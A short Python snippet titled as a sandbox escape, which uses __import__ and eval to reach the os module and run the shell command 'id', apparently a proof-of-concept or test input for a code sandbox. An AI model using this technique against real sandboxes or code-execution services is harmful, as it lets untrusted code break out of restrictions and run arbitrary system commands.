# Sandbox escape via __import__ and eval
m = __import__("os")
print(m.getcwd())
eval("__import__('os').system('id')")
